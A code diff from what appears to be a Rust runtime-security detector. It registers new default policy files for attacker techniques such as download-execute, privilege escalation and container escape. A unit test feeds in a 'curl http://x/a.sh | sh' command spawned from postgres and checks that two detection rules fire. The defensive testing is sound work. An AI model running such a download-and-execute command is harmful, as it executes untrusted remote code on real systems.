@@ -37,6 +37,34 @@ pub const DEFAULT_FILES: &[(&str, &str)] = &[
         "policies/cloud-metadata.yaml",
         include_str!("../../../policies/cloud-metadata.yaml"),
     ),
+    (
+        "policies/download-execute.yaml",
+        include_str!("../../../policies/download-execute.yaml"),
+    ),
+    (
+        "policies/user-persistence.yaml",
+        include_str!("../../../policies/user-persistence.yaml"),
+    ),
+    (
+        "policies/privilege-escalation.yaml",
+        include_str!("../../../policies/privilege-escalation.yaml"),
+    ),
+    (
+        "policies/defense-evasion.yaml",
+        include_str!("../../../policies/defense-evasion.yaml"),
+    ),
+    (
+        "policies/process-memory.yaml",
+        include_str!("../../../policies/process-memory.yaml"),
+    ),
+    (
+        "policies/container-escape.yaml",
+        include_str!("../../../policies/container-escape.yaml"),
+    ),
+    (
+        "policies/kernel-modules.yaml",
+        include_str!("../../../policies/kernel-modules.yaml"),
+    ),
 ];
 
 /// The shipped default set, validated like any other.
@@ -225,13 +253,14 @@ mod tests {
             ],
             &["/usr/sbin/apache2"],
         ));
-        only(
-            exec(
+        // COPY ... FROM PROGRAM fetching a stager: both the shell and the download-execute.
+        assert_eq!(
+            fired(&exec(
                 "/usr/bin/dash",
                 &["sh", "-c", "curl http://x/a.sh | sh"],
                 &["/usr/lib/postgresql/16/bin/postgres"],
-            ),
-            "shell-from-database",
+            )),
+            ["shell-from-database", "download-piped-to-shell"]
         );
         none(exec(
             "/usr/bin/dash",
